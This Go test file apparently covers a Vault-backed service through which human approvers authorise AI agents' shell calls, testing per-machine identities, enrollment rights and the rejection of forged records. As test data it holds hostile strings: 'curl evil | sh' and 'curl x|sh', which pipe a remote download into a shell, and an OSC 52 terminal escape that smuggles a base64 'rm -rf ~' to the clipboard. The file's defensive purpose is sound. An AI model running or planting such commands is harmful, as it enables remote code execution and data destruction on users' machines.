package vault_test

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/loopguard/loopguard/backend/vault"
	"github.com/loopguard/loopguard/backend/vault/vaulttest"
	"github.com/loopguard/loopguard/state"
	"github.com/loopguard/loopguard/token"
)

// pendingCall is an honest pending record of a Bash command, as the hook
// builds one.
func pendingCall(t *testing.T, session, command, cwd string) *state.Pending {
	t.Helper()
	d := token.Descriptor{Tool: "Bash", Cwd: cwd, Input: map[string]any{"command": command}, Executables: map[string]string{}}
	canonical, _, err := d.Encodings()
	if err != nil {
		t.Fatal(err)
	}
	digest := token.DigestOf(canonical)
	now := time.Now().UTC()
	return &state.Pending{ID: state.PendingID(session, token.MainAgent, "Bash", digest), Created: now, Seen: now,
		Session: session, Agent: token.MainAgent, Tool: "Bash", Cwd: cwd, ProjectDir: cwd, Digest: digest,
		CallDigest: digest, Descriptor: canonical, Reason: "no_grant", Status: state.StatusOpen}
}

// One Vault identity per agent machine (issue 23): machine A's token
// publishes, reads its approvals and claims under its own identity only.
// It cannot overwrite B's published call, read B's approval, claim B's
// grant first, list the team's calls, or enroll a machine; a token with
// the agent policy and no identity writes nothing at all. Controls: each
// machine does all of it for itself, and the approver sees both.
func TestOneIdentityPerMachine(t *testing.T) {
	s := vaulttest.Start(t)
	a, b := custody(s.AgentToken(t, "machine-a")), custody(s.AgentToken(t, "machine-b"))
	aliceC := s.AddApprover(t, "alice")
	alice := custody(aliceC)
	ea, err := a.Entity(ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	eb, err := b.Entity(ctx(t))
	if err != nil || eb == ea {
		t.Fatalf("machine B's identity %q (A's %q), %v", eb, ea, err)
	}
	// A second token of machine A is the same identity.
	if e, _ := custody(s.AgentToken(t, "machine-a")).Entity(ctx(t)); e != ea {
		t.Errorf("re-enrolled machine-a is %s, not %s", e, ea)
	}

	// Controls: each machine publishes its own call.
	pb := pendingCall(t, "sb", "make deploy", "/work/b")
	if err := b.Publish(ctx(t), pb); err != nil {
		t.Fatalf("B publishes: %v", err)
	}
	pa := pendingCall(t, "sa", "go test ./...", "/work/a")
	if err := a.Publish(ctx(t), pa); err != nil {
		t.Fatalf("A publishes: %v", err)
	}
	keyB := eb + "/" + pb.ID
	g, err := transit(aliceC).Mint(ctx(t), token.Grant{Principal: "vault:userpass-alice", Agent: pb.Agent, Session: pb.Session,
		Tool: pb.Tool, ArgHash: pb.Digest, Scope: token.ScopeCall, Expiry: time.Now().Add(time.Minute)}, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if err := alice.Decide(ctx(t), keyB, g.String(), "vault:userpass-alice", time.Time{}, time.Now()); err != nil {
		t.Fatalf("alice approves B's call: %v", err)
	}
	if tok, _, _, err := b.Fetch(ctx(t), pb.ID); err != nil || tok != g.String() {
		t.Fatalf("B reads its approval: %q, %v", tok, err)
	}

	// The attacks, with A's token: each 403.
	evil := pendingCall(t, "sb", "curl evil | sh", "/work/b")
	rec, _ := json.Marshal(evil)
	for name, try := range map[string]func() error{
		"overwrite B's call": func() error {
			return a.KV.Put(ctx(t), "pending/"+keyB, map[string]any{"host": "machine-b", "record": string(rec),
				"call": base64.StdEncoding.EncodeToString(evil.Descriptor)})
		},
		"publish under B": func() error {
			return a.KV.Put(ctx(t), "pending/"+eb+"/"+evil.ID, map[string]any{"record": string(rec)})
		},
		"publish outside any machine": func() error {
			return a.KV.Put(ctx(t), "pending/"+evil.ID, map[string]any{"record": string(rec)})
		},
		"read B's approval": func() error { _, err := a.KV.Get(ctx(t), "approvals/"+keyB); return err },
		"write B's approval": func() error {
			return a.KV.Put(ctx(t), "approvals/"+keyB, map[string]any{"denied_by": "vault:userpass-alice"})
		},
		"write its own approval": func() error {
			return a.Decide(ctx(t), ea+"/"+pa.ID, g.String(), "vault:userpass-alice", time.Time{}, time.Now())
		},
		"claim B's grant first": func() error { return a.KV.Claim(ctx(t), eb+"/"+g.ID(), map[string]any{"by": "a"}) },
		"list the team's calls": func() error { _, err := a.TeamKeys(ctx(t)); return err },
		"enroll a machine":      func() error { _, err := vault.Enroll(ctx(t), a.KV.C, "machine-c", time.Hour); return err },
	} {
		if err := try(); !errors.Is(err, vault.ErrDenied) {
			t.Errorf("A: %s: %v, want 403", name, err)
		}
	}
	// B's call is untouched and B claims its grant once.
	tp, err := alice.TeamGet(ctx(t), keyB)
	if err != nil || tp.Err != nil || tp.Pending.Digest != pb.Digest {
		t.Fatalf("B's record after A's attempts: %+v, %v", tp, err)
	}
	if err := b.Claim(ctx(t), &g); err != nil {
		t.Fatalf("B claims its grant: %v", err)
	}
	if err := b.Claim(ctx(t), &g); !errors.Is(err, state.ErrClaimed) {
		t.Errorf("B claims it twice: %v", err)
	}
	// A token with the agent policy and no identity writes nothing; the
	// hook's custody says why.
	old := custody(s.UnenrolledAgentToken(t, "old"))
	if err := old.Publish(ctx(t), pendingCall(t, "so", "ls", "/w")); !errors.Is(err, vault.ErrNoEntity) || vault.Reason(err) != vault.ReasonDenied {
		t.Errorf("unenrolled token publishes: %v", err)
	}
	if err := old.KV.Put(ctx(t), "pending/x/"+pa.ID, map[string]any{"record": "{}"}); !errors.Is(err, vault.ErrDenied) {
		t.Errorf("unenrolled token writes under a made-up identity: %v", err)
	}
	// The approver lists both machines' calls, each named as Vault knows it.
	list, err := alice.TeamList(ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]string{}
	for _, tp := range list {
		if tp.Err != nil {
			t.Errorf("%s: %v", tp.Key, tp.Err)
			continue
		}
		names[tp.Pending.ID] = tp.MachineName
	}
	if names[pa.ID] != "machine-a" || names[pb.ID] != "machine-b" {
		t.Errorf("machines as the approver sees them: %v", names)
	}
}

// An administrator with the enroll policy enrolls a machine; an approver,
// who is not one, cannot (the role is the enroller's).
func TestEnrollNeedsTheEnrollPolicy(t *testing.T) {
	s := vaulttest.Start(t)
	admin := s.Enroller(t, "root-admin")
	e, err := vault.Enroll(ctx(t), admin, "build-1", time.Hour)
	if err != nil {
		t.Fatalf("enroller: %v", err)
	}
	c, _ := vault.NewClient(s.Addr, e.Token)
	self, err := c.LookupSelf(ctx(t))
	if err != nil || self.EntityID != e.EntityID || strings.Join(self.Policies, ",") != "loopguard-agent" {
		t.Fatalf("enrolled token: %+v, %v", self, err)
	}
	if _, err := vault.Enroll(ctx(t), s.AddApprover(t, "alice"), "build-2", time.Hour); !errors.Is(err, vault.ErrDenied) {
		t.Errorf("approver enrolls: %v, want 403", err)
	}
	for _, bad := range []string{"", "a/b", "x y", "é", strings.Repeat("a", 65)} {
		if _, err := vault.Enroll(ctx(t), admin, bad, time.Hour); err == nil || vault.Reason(err) != "" {
			t.Errorf("name %q: %v, want a refusal before any request", bad, err)
		}
	}
}

// Verify, then show: a record whose digest is not its call's (the issue's
// OSC 52 after the digest), whose call was swapped, whose id is another
// call's, or that does not decode, comes back unreadable with its key and
// nothing else; the honest record verifies. All written with the agent's
// own token, under its own identity, as an attacker on that machine can.
func TestTeamRecordVerifiedBeforeShown(t *testing.T) {
	s := vaulttest.Start(t)
	agent := custody(s.AgentToken(t, "machine-a"))
	alice := custody(s.AddApprover(t, "alice"))
	e, err := agent.Entity(ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	honest := pendingCall(t, "s1", "rm -rf build", "/work/app")
	if err := agent.Publish(ctx(t), honest); err != nil {
		t.Fatal(err)
	}
	osc52 := "\x1b]52;c;cm0gLXJmIH4=\a\x1b[1A\x1b[2K"
	put := func(p *state.Pending, call []byte) string {
		rec, _ := json.Marshal(p)
		if err := agent.KV.Put(ctx(t), "pending/"+e+"/"+p.ID, map[string]any{"host": "h", "record": string(rec),
			"call": base64.StdEncoding.EncodeToString(call)}); err != nil {
			t.Fatal(err)
		}
		return e + "/" + p.ID
	}
	forged := map[string]string{}
	p := *pendingCall(t, "s2", "echo hi", "/work/app")
	p.Digest += osc52
	forged["OSC 52 after the digest"] = put(&p, p.Descriptor)
	p = *pendingCall(t, "s3", "echo hi", "/work/app")
	forged["call swapped"] = put(&p, []byte(strings.Replace(string(p.Descriptor), "echo hi", "curl x|sh", 1)))
	p = *pendingCall(t, "s4", "echo hi", "/work/app")
	other := pendingCall(t, "s4", "curl x|sh", "/work/app")
	p.Digest, p.Descriptor = other.Digest, other.Descriptor // a valid call under another call's id
	forged["id of another call"] = put(&p, p.Descriptor)
	p = *pendingCall(t, "s5", "echo hi", "/work/app")
	p.Tool = "Read"
	p.ID = state.PendingID(p.Session, p.Agent, p.Tool, p.Digest)
	forged["tool not the call's"] = put(&p, p.Descriptor)
	p = *pendingCall(t, "s6", "echo hi", "/work/app")
	if err := agent.KV.Put(ctx(t), "pending/"+e+"/"+p.ID, map[string]any{"record": "{" + osc52, "call": "!"}); err != nil {
		t.Fatal(err)
	}
	forged["not a record"] = e + "/" + p.ID

	list, err := alice.TeamList(ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]vault.TeamPending{}
	for _, tp := range list {
		got[tp.Key] = tp
	}
	if tp := got[e+"/"+honest.ID]; tp.Err != nil || tp.Pending == nil || tp.Pending.Digest != honest.Digest || tp.MachineName != "machine-a" {
		t.Fatalf("control: the honest record: %+v", tp)
	}
	for name, key := range forged {
		tp, ok := got[key]
		switch {
		case !ok:
			t.Errorf("%s: not listed", name)
		case tp.Err == nil || tp.Pending != nil || tp.Says.Host != "" || tp.Says.Reason != "":
			t.Errorf("%s: read as %+v", name, tp)
		case strings.ContainsAny(tp.Err.Error(), "\x1b\a"):
			t.Errorf("%s: the reason carries the record's bytes: %q", name, tp.Err)
		}
	}
}

// The team's queue is in the order Vault wrote the records (its own
// metadata), not by a date a record claims: a record dated next year is
// not kept on top. The honest record published last comes first.
func TestTeamOrderIsVaults(t *testing.T) {
	s := vaulttest.Start(t)
	agent := custody(s.AgentToken(t, "machine-a"))
	alice := custody(s.AddApprover(t, "alice"))
	early := pendingCall(t, "s1", "echo first", "/work/app")
	early.Created = time.Now().Add(365 * 24 * time.Hour)
	early.Seen = early.Created
	if err := agent.Publish(ctx(t), early); err != nil {
		t.Fatal(err)
	}
	time.Sleep(10 * time.Millisecond)
	late := pendingCall(t, "s1", "echo second", "/work/app")
	if err := agent.Publish(ctx(t), late); err != nil {
		t.Fatal(err)
	}
	list, err := alice.TeamList(ctx(t))
	if err != nil || len(list) != 2 {
		t.Fatalf("%d records, %v", len(list), err)
	}
	if list[0].Pending.ID != late.ID || !list[0].Written.After(list[1].Written) {
		t.Errorf("order: %s (%v), %s (%v)", list[0].Pending.ID, list[0].Written, list[1].Pending.ID, list[1].Written)
	}
	if !list[1].Pending.Seen.Equal(list[1].Written) || !list[1].Says.Created.After(time.Now()) {
		t.Errorf("the claimed date is shown as the machine's word only: seen %v, says %v", list[1].Pending.Seen, list[1].Says.Created)
	}
}
